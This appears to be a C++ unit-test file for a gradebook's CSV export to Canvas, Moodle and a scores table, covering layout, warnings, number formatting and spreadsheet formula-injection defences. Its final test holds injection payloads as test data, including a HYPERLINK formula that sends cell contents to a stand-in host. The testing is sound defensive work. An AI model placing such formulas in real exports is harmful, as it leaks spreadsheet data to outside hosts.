#include "lms_export.h"

#include "averages.h"
#include "csv_reader.h"
#include "entry.h"
#include "gradebook.h"
#include "sample_builder.h"
#include "text.h"

#include <gtest/gtest.h>

#include <cmath>
#include <random>

using namespace marklow;
using marklow::testing::ReadCsvStrictly;
using marklow::testing::TCsvTable;
using TKind = TLmsWarning::TKind;

namespace {

// Letters, a curve, a slash, a comment, an invalid entry, extra credit, a grade out of 0
// points without a name, two grades of one name, names with a comma, quotes and accents, a
// student without ID and one with another's ID. Left in edit mode: the spare row and column
// exist beside them.
void MixedClass(TGradebook& gb) {
    gb.SetEditMode(false);
    gb.LetterToNumber.Add("A", 95);
    gb.LetterToNumber.Add("B", 85);
    gb.LetterToNumber.Add("C", 75);
    for (auto [letter, from] : {std::pair{"A", 90}, {"B", 80}, {"C", 70}, {"F", 0}})
        gb.NumberToLetter.Add(letter, from);
    AddStudent(gb, "Ann Lee", "S1");
    gb.StudentAt(2)->Notes = "e-mail: ann.lee@school.example.";
    AddStudent(gb, "Roy, Ben \"BJ\"", " S2 ");
    AddStudent(gb, "José Müller");
    AddStudent(gb, "", "S1");
    AddGrade(gb, "Quiz 1", 20);
    AddGrade(gb, "Essay", 50);
    gb.GradeAt(3)->Curve = true;
    gb.GradeAt(3)->CurveAmount = 2.5;
    AddGrade(gb, "Bonus", 10);
    gb.GradeAt(4)->ExtraCredit = true;
    AddGrade(gb, " ", 0);
    AddGrade(gb, "Quiz 1", 10);
    const char* entries[4][5] = {
        {"17 late", "40", "5", "3", "7.25"},
        {"B", "/40", "", "", ""},
        {"/18", "C", "10", "", "1e1"},
        {"", "x?", "", "", ""},
    };
    for (int r = 2; r <= 5; ++r)
        for (int c = 2; c <= 6; ++c)
            gb.SetCell(c, r, entries[r - 2][c - 2]);
    gb.SetEditMode(true);
    RecomputeAll(gb);
}

TCsvTable Read(const std::string& csv) {
    std::string error;
    auto table = ReadCsvStrictly(csv, &error);
    EXPECT_TRUE(table) << error;
    return table.value_or(TCsvTable{});
}

std::vector<std::tuple<TKind, int, int>> Places(const TLmsExport& ex) {
    std::vector<std::tuple<TKind, int, int>> places;
    for (const TLmsWarning& w : ex.Warnings)
        places.emplace_back(w.Kind, w.Column, w.Row);
    return places;
}

double Number(const std::string& field) {
    auto v = ConvertNumber(field);
    EXPECT_TRUE(v) << '"' << field << "\" is no number";
    return v.value_or(NAN);
}

// The points the averages count an entry as: their percentage of the grade's points.
std::optional<double> AveragesPoints(const TGradebook& gb, int c, int r) {
    const TGrade& g = *gb.GradeAt(c);
    TEntry e = ReadEntry(gb.Cell(c, r), gb.LetterToNumber);
    if (!(g.Points > 0)) return std::nullopt;
    auto pct = EntryPercent(g, e);
    if (!pct) return std::nullopt;
    return *pct * g.Points / 100;
}

// Every score of a file of the given layout against the averages' own values: blank where they
// count nothing, otherwise the same points to 14 significant digits.
void ExpectScoresOfTheAverages(const TGradebook& gb, const TCsvTable& table, size_t firstRow,
                               size_t firstColumn, const std::vector<int>& rows) {
    ASSERT_EQ(table.size(), firstRow + rows.size());
    for (size_t i = 0; i < rows.size(); ++i) {
        const auto& record = table[firstRow + i];
        for (int c = 2; c <= gb.LastGradeColumn(); ++c) {
            const std::string& field = record[firstColumn + static_cast<size_t>(c - 2)];
            auto expected = AveragesPoints(gb, c, rows[i]);
            SCOPED_TRACE("entry \"" + std::string(gb.Cell(c, rows[i])) + "\" in (" +
                         std::to_string(c) + ", " + std::to_string(rows[i]) + ")");
            if (!expected) {
                EXPECT_EQ(field, "");
                continue;
            }
            double got = Number(field);
            EXPECT_NEAR(got, *expected, 1e-14 * std::max(1.0, std::fabs(*expected)));
            EXPECT_EQ(field.find_first_of("eE"), std::string::npos) << field;
        }
    }
}

} // namespace

TEST(LmsExport, CanvasHasThePointsRowSisIdsAndOnlyNumbers) {
    TGradebook gb;
    MixedClass(gb);
    TLmsExport ex = ExportForLms(gb, TLmsFormat::Canvas);
    // Comments dropped, the letter B as 85% of 20 points, the curve on "40" and on the
    // letter C (75% of 50 plus 2.5) but not on "/40"; extra credit out of 0 points; the grade
    // out of no points read only and empty; the unreadable "x?" blank.
    EXPECT_EQ(ex.Csv, "Student,ID,SIS User ID,SIS Login ID,Section,Quiz 1,Essay,Bonus,Grade 4,"
                      "Quiz 1 [2]\r\n"
                      "Points Possible,,,,,20,50,0,(read only),10\r\n"
                      "\"Lee, Ann\",,S1,,,17,42.5,5,,7.25\r\n"
                      "\"Roy, Ben \"\"BJ\"\"\",,S2,,,17,40,,,\r\n"
                      "\"Müller, José\",,,,,18,40,10,,10\r\n"
                      ",,S1,,,,,,,\r\n");
    EXPECT_EQ(ex.Students, 4);
    EXPECT_EQ(Places(ex), (std::vector<std::tuple<TKind, int, int>>{
                              {TKind::Renamed, 5, 0},
                              {TKind::NoPoints, 5, 0},
                              {TKind::Renamed, 6, 0},
                              {TKind::NoId, 0, 4},
                              {TKind::SameId, 0, 5},
                              {TKind::Unreadable, 3, 5},
                          }));
    EXPECT_EQ(ex.Warnings[4].OtherRow, 2);
    std::vector<std::string> texts;
    for (const TLmsWarning& w : ex.Warnings)
        texts.push_back(LmsWarningText(gb, ex, w));
    EXPECT_EQ(texts, (std::vector<std::string>{
                         "Grade 4 has no name: written as \"Grade 4\"",
                         "Grade \"Grade 4\" is out of no points: its entries are left blank",
                         "Grade name \"Quiz 1\" is taken: written as \"Quiz 1 [2]\"",
                         "Student \"José Müller\" has no ID: the import cannot match the row by ID",
                         "The student in row 4 has the ID \"S1\" of student \"Ann Lee\": the "
                         "import gives both rows to one student",
                         "\"Essay\" entry of \"x?\" for the student in row 4 cannot be read: left "
                         "blank",
                     }));
    EXPECT_EQ(ExportForLms(gb, TLmsFormat::Canvas, true).Csv, "\xEF\xBB\xBF" + ex.Csv);
}

TEST(LmsExport, MoodleLeavesOutRowsItCannotMatchAndTakesTheEMailFromTheNotes) {
    TGradebook gb;
    MixedClass(gb);
    TLmsExport ex = ExportForLms(gb, TLmsFormat::Moodle);
    TCsvTable table = Read(ex.Csv);
    ASSERT_EQ(table.size(), 4u) << ex.Csv;
    EXPECT_EQ(table[0],
              (std::vector<std::string>{"ID number", "Full name", "Email address", "Quiz 1",
                                        "Essay", "Bonus", "Grade 4", "Quiz 1 [2]"}));
    EXPECT_EQ(table[1], (std::vector<std::string>{"S1", "Ann Lee", "ann.lee@school.example", "17",
                                                  "42.5", "5", "", "7.25"}));
    EXPECT_EQ(table[2][0], "S2");
    EXPECT_EQ(table[2][1], "Roy, Ben \"BJ\"");
    EXPECT_EQ(table[3][0], "S1") << "José has neither ID nor e-mail address";
    ExpectScoresOfTheAverages(gb, table, 1, 3, {2, 3, 5});
    EXPECT_EQ(ex.Students, 3);
    EXPECT_EQ(Places(ex)[3], std::make_tuple(TKind::NoIdLeftOut, 0, 4));

    // Moodle is told to match ID numbers: an address does not save a row without one, since
    // a blank identifier gives the row's grades to the student above it.
    gb.StudentAt(4)->Notes = "Parent: <jm@example.org>; second line";
    ex = ExportForLms(gb, TLmsFormat::Moodle);
    EXPECT_EQ(Read(ex.Csv).size(), 4u);
    EXPECT_EQ(LmsWarningText(gb, ex, ex.Warnings[3]),
              "Student \"José Müller\" has no ID number, which the import is to identify students "
              "by: left out");
    // Matched by e-mail address, the row stays and those without an address go.
    TLmsOptions byEmail;
    byEmail.Identifier = TMoodleIdentifier::Email;
    ex = ExportForLms(gb, TLmsFormat::Moodle, byEmail);
    table = Read(ex.Csv);
    ASSERT_EQ(table.size(), 3u);
    EXPECT_EQ(table[1][1], "Ann Lee");
    EXPECT_EQ(table[2][2], "jm@example.org");
}

TEST(LmsExport, ScoresTableEndsWithTheAverageAndItsLetter) {
    TGradebook gb;
    MixedClass(gb);
    TLmsExport ex = ExportForLms(gb, TLmsFormat::Scores);
    TCsvTable table = Read(ex.Csv);
    ASSERT_EQ(table.size(), 5u);
    EXPECT_EQ(table[0].front(), "Name");
    EXPECT_EQ(table[0][1], "ID");
    EXPECT_EQ(table[0][table[0].size() - 2], "Average");
    EXPECT_EQ(table[0].back(), "Letter");
    EXPECT_EQ(table[2][0], "Roy, Ben \"BJ\"") << "as typed";
    EXPECT_EQ(table[2][1], "S2") << "without the blanks around it";
    ExpectScoresOfTheAverages(gb, table, 1, 2, {2, 3, 4, 5});
    for (int r = 2; r <= 5; ++r) {
        const TStudent& s = *gb.StudentAt(r);
        const auto& record = table[static_cast<size_t>(r - 1)];
        if (!s.HasAverage) {
            // Row 5's only entry cannot be read.
            EXPECT_EQ(r, 5);
            EXPECT_EQ(record[record.size() - 2], "");
            EXPECT_EQ(record.back(), "");
            continue;
        }
        EXPECT_NEAR(Number(record[record.size() - 2]), s.Average, 1e-12 * s.Average);
        EXPECT_EQ(record.back(), LetterOf(gb.NumberToLetter, s.Average));
    }
    // Only unreadable entries and grades are told: the table matches nobody.
    for (const TLmsWarning& w : ex.Warnings)
        EXPECT_TRUE(w.Kind != TKind::NoId && w.Kind != TKind::NoIdLeftOut);
}

// A class of every kind of entry, in each format: every score what the averages count.
TEST(LmsExport, EveryScoreIsWhatTheAveragesCount) {
    TBuildOptions o;
    o.Students = 120;
    o.Grades = 40;
    o.InvalidShare = 4;
    o.EditMode = true;
    auto gb = BuildGradebook(o);
    gb->SetEditMode(false);
    gb->GradeAt(5)->Points = 0;
    gb->GradeAt(6)->ExtraCredit = true;
    gb->GradeAt(7)->Points = 30;
    gb->GradeAt(7)->Curve = true;
    gb->GradeAt(7)->CurveAmount = 0.1;
    gb->SetCell(7, 2, "0.2");
    gb->SetCell(8, 3, "1e308");
    gb->GradeAt(8)->Points = 1e-10; // its percentage no double holds: unreadable
    gb->SetEditMode(true);
    RecomputeAll(*gb);
    std::vector<int> rows;
    for (int r = 2; r <= gb->LastStudentRow(); ++r)
        rows.push_back(r);

    TLmsExport canvas = ExportForLms(*gb, TLmsFormat::Canvas);
    TCsvTable table = Read(canvas.Csv);
    ExpectScoresOfTheAverages(*gb, table, 2, 5, rows);
    EXPECT_EQ(table[2][5 + 5], "0.3") << "0.2 and a curve of 0.1, no digits of rounding";
    size_t unreadable = 0;
    for (int r : rows)
        for (int c = 2; c <= gb->LastGradeColumn(); ++c) {
            TEntry e = ReadEntry(gb->Cell(c, r), gb->LetterToNumber);
            if (c != 5 && e.Kind != EntryKind::Blank && !AveragesPoints(*gb, c, r)) ++unreadable;
        }
    size_t told = 0;
    for (const TLmsWarning& w : canvas.Warnings)
        told += w.Kind == TKind::Unreadable;
    EXPECT_GT(unreadable, 100u);
    EXPECT_EQ(told, unreadable) << "every unreadable entry is told, once";

    table = Read(ExportForLms(*gb, TLmsFormat::Moodle).Csv);
    ExpectScoresOfTheAverages(*gb, table, 1, 3, rows);
    table = Read(ExportForLms(*gb, TLmsFormat::Scores).Csv);
    ExpectScoresOfTheAverages(*gb, table, 1, 2, rows);
}

TEST(LmsExport, NumbersAreExactDecimalsWithoutRoundingNoise) {
    EXPECT_EQ(LmsNumber(17), "17");
    EXPECT_EQ(LmsNumber(-2.5), "-2.5");
    EXPECT_EQ(LmsNumber(-0.0), "0");
    EXPECT_EQ(LmsNumber(0.1 + 0.2), "0.3");
    EXPECT_EQ(LmsNumber(17.3 + 2), "19.3");
    EXPECT_EQ(LmsNumber(260.0 / 3), "86.6666666666667");
    EXPECT_EQ(LmsNumber(0.0001234), "0.0001234");
    EXPECT_EQ(LmsNumber(999999999999999.0), "999999999999999");
    EXPECT_EQ(LmsNumber(99.99999999999999), "100");
    EXPECT_EQ(LmsNumber(-0.05), "-0.05");
    EXPECT_EQ(LmsNumber(12.0001), "12.0001");
    EXPECT_EQ(LmsNumber(1e20), "100000000000000000000");
    EXPECT_EQ(LmsNumber(6.5e-11), "0.000000000065");
    EXPECT_EQ(LmsNumber(1.0 / 3e12), "0.000000000000333333333333333");
    EXPECT_EQ(LmsNumber(-1e300).size(), 302u);
    // Any decimal of up to 15 significant digits comes back as the same double.
    std::mt19937_64 rng(7);
    for (int i = 0; i < 20000; ++i) {
        uint64_t mantissa = rng() % 1000000000000000ull;
        int scale = static_cast<int>(rng() % 20);
        std::string digits = std::to_string(mantissa);
        std::string text =
            scale < static_cast<int>(digits.size())
                ? digits.substr(0, digits.size() - static_cast<size_t>(scale)) + "." +
                      digits.substr(digits.size() - static_cast<size_t>(scale))
                : "0." + std::string(static_cast<size_t>(scale) - digits.size(), '0') + digits;
        double v = *ConvertNumber(text);
        std::string written = LmsNumber(v);
        ASSERT_EQ(ConvertNumber(written), v) << text << " written as " << written;
        ASSERT_EQ(written.find('e'), std::string::npos) << written;
        // Without digits it does not need: the decimal as typed, trailing zeros dropped.
        std::string shortest = text;
        if (shortest.find('.') != std::string::npos) {
            while (shortest.back() == '0')
                shortest.pop_back();
            if (shortest.back() == '.') shortest.pop_back();
        }
        if (shortest == "0") continue;
        size_t lead = shortest.find_first_not_of('0');
        if (shortest[lead] == '.') --lead;
        ASSERT_EQ(written, shortest.substr(lead)) << text;
    }
}

TEST(LmsExport, CanvasNamesPutTheSurnameFirst) {
    EXPECT_EQ(CanvasStudentName("Ann Lee"), "Lee, Ann");
    EXPECT_EQ(CanvasStudentName("  Mary Ann   van Dyke "), "Dyke, Mary Ann   van");
    EXPECT_EQ(CanvasStudentName("Martin Luther King Jr."), "King Jr., Martin Luther");
    EXPECT_EQ(CanvasStudentName("Ann Lee 64"), "Lee 64, Ann");
    EXPECT_EQ(CanvasStudentName("Lee, Ann"), "Lee, Ann");
    EXPECT_EQ(CanvasStudentName("Cher"), "Cher");
    EXPECT_EQ(CanvasStudentName("Ann 2"), "Ann 2");
    EXPECT_EQ(CanvasStudentName("Zoë Ærø"), "Ærø, Zoë");
    EXPECT_EQ(CanvasStudentName(""), "");
}

TEST(LmsExport, TheEMailAddressOfTheNotes) {
    EXPECT_EQ(EmailInNotes("ann@example.org"), "ann@example.org");
    EXPECT_EQ(EmailInNotes("Mail: mailto:a.b+c@mail.example.edu, phone 555"),
              "a.b+c@mail.example.edu");
    EXPECT_EQ(EmailInNotes("Lives at home. Contact: (kim@x.org)."), "kim@x.org");
    EXPECT_EQ(EmailInNotes("@twitter or me@home or a@@b.c or x@.org"), "");
    EXPECT_EQ(EmailInNotes("first line\nsecond: b@c.de"), "b@c.de");
    EXPECT_EQ(EmailInNotes(""), "");
}

TEST(LmsExport, GradeTitlesAvoidTheFixedColumnsAndEachOther) {
    TGradebook gb;
    gb.SetEditMode(false);
    AddStudent(gb, "Ann Lee", "1");
    for (const char* name : {"Average", "ID", "Test", "Test", "Test [2]", ""})
        AddGrade(gb, name, 10);
    RecomputeAll(gb);
    EXPECT_EQ(ExportForLms(gb, TLmsFormat::Scores).Titles,
              (std::vector<std::string>{"Average [2]", "ID [2]", "Test", "Test [2]", "Test [2] [2]",
                                        "Grade 6"}));
    EXPECT_EQ(ExportForLms(gb, TLmsFormat::Canvas).Titles,
              (std::vector<std::string>{"Average", "ID [2]", "Test", "Test [2]", "Test [2] [2]",
                                        "Grade 6"}));
    EXPECT_EQ(LmsFormatNamed("moodle"), TLmsFormat::Moodle);
    EXPECT_EQ(LmsFormatNamed("Moodle"), std::nullopt);
    EXPECT_STREQ(LmsFormatName(TLmsFormat::Scores), "scores");
}

TEST(LmsExport, PointsOfAnEntryAreItsPercentageOfThePoints) {
    TGrade g;
    TEntry number{EntryKind::Number, 45, true};
    TEntry slashed{EntryKind::Number, 45, false};
    TEntry letter{EntryKind::Letter, 85, true};
    g.Points = 50;
    g.Curve = true;
    g.CurveAmount = 5;
    EXPECT_EQ(EntryPoints(g, number), 50.0);
    EXPECT_EQ(EntryPoints(g, slashed), 45.0);
    EXPECT_EQ(EntryPoints(g, letter), 47.5);
    g.Points = 0;
    EXPECT_EQ(EntryPoints(g, letter), std::nullopt) << "out of 0 points there are no points";
    EXPECT_EQ(EntryPoints(g, TEntry{EntryKind::Invalid, 0, true}), std::nullopt);
    g.Points = 1;
    g.CurveAmount = 1e308;
    EXPECT_EQ(EntryPoints(g, TEntry{EntryKind::Number, 1e308, true}), std::nullopt);
}

// Hostile names from an LMS roster or typed by hand: what a spreadsheet opening the export
// would run is written as text; what the importer matches students on is written unchanged.
TEST(LmsExport, NothingAPersonReadsRunsAsAFormulaAndMatchingFieldsStayAsStored) {
    TGradebook gb;
    gb.SetEditMode(false);
    for (auto [letter, from] : {std::pair{"=A", 90}, {"F", 0}})
        gb.NumberToLetter.Add(letter, from);
    AddStudent(gb, "=HYPERLINK(\"http://x.example/?\"&A1,\"Ann\")", "=1+1");
    AddStudent(gb, " +Ben", "-7");
    AddStudent(gb, "\t@Cal", "C3");
    gb.StudentAt(4)->Notes = "mail: -2+3@school.example";
    AddStudent(gb, "Dee Fox", "D4");
    AddGrade(gb, "|Quiz", 10);
    AddGrade(gb, "%Essay", 10);
    gb.SetCell(2, 2, "-2");
    gb.SetCell(2, 3, "9");
    gb.SetCell(3, 5, "10");
    RecomputeAll(gb);

    TLmsExport canvas = ExportForLms(gb, TLmsFormat::Canvas);
    TCsvTable table = Read(canvas.Csv);
    ASSERT_EQ(table.size(), 6u) << canvas.Csv;
    EXPECT_EQ(table[0][5], "'|Quiz");
    EXPECT_EQ(table[0][6], "'%Essay");
    // The name as Canvas shows it, with nothing in front a spreadsheet could read.
    EXPECT_EQ(table[3][0], "'+Ben") << "the blank taken off must not bring the formula back";
    EXPECT_EQ(table[4][0], "'@Cal");
    EXPECT_EQ(table[5][0], "Fox, Dee");
    EXPECT_EQ(table[2][0].substr(0, 11), "'=HYPERLINK");
    // SIS User IDs as stored, so that Canvas still finds the students; a negative score and
    // a negative ID are numbers, not formulas.
    EXPECT_EQ(table[2][2], "=1+1");
    EXPECT_EQ(table[3][2], "-7");
    EXPECT_EQ(table[2][5], "-2");
    const auto places = Places(canvas);
    EXPECT_NE(std::find(places.begin(), places.end(), std::make_tuple(TKind::FormulaId, 0, 2)),
              places.end());
    EXPECT_EQ(std::count_if(canvas.Warnings.begin(), canvas.Warnings.end(),
                            [](const TLmsWarning& w) { return w.Kind == TKind::FormulaId; }),
              1)
        << "-7 is a number";
    for (const TLmsWarning& w : canvas.Warnings) {
        if (w.Kind != TKind::FormulaId) continue;
        EXPECT_NE(LmsWarningText(gb, canvas, w).find("has the ID \"=1+1\", which a spreadsheet"),
                  std::string::npos);
    }

    TLmsExport moodle = ExportForLms(gb, TLmsFormat::Moodle);
    table = Read(moodle.Csv);
    ASSERT_EQ(table.size(), 5u) << moodle.Csv;
    EXPECT_EQ(table[1][0], "=1+1");
    EXPECT_EQ(table[1][1].substr(0, 11), "'=HYPERLINK");
    EXPECT_EQ(table[2][1], " +Ben") << "a leading blank is no formula";
    EXPECT_EQ(table[3][1], "'\t@Cal");
    EXPECT_EQ(table[3][2], "-2+3@school.example");
    const auto moodlePlaces = Places(moodle);
    EXPECT_NE(std::find(moodlePlaces.begin(), moodlePlaces.end(),
                        std::make_tuple(TKind::FormulaEmail, 0, 4)),
              moodlePlaces.end());

    TLmsExport scores = ExportForLms(gb, TLmsFormat::Scores);
    table = Read(scores.Csv);
    ASSERT_EQ(table.size(), 5u) << scores.Csv;
    EXPECT_EQ(table[0][2], "'|Quiz");
    EXPECT_EQ(table[4][5], "'=A") << "a letter of the teacher's table";
    EXPECT_EQ(table[1][2], "-2");
}
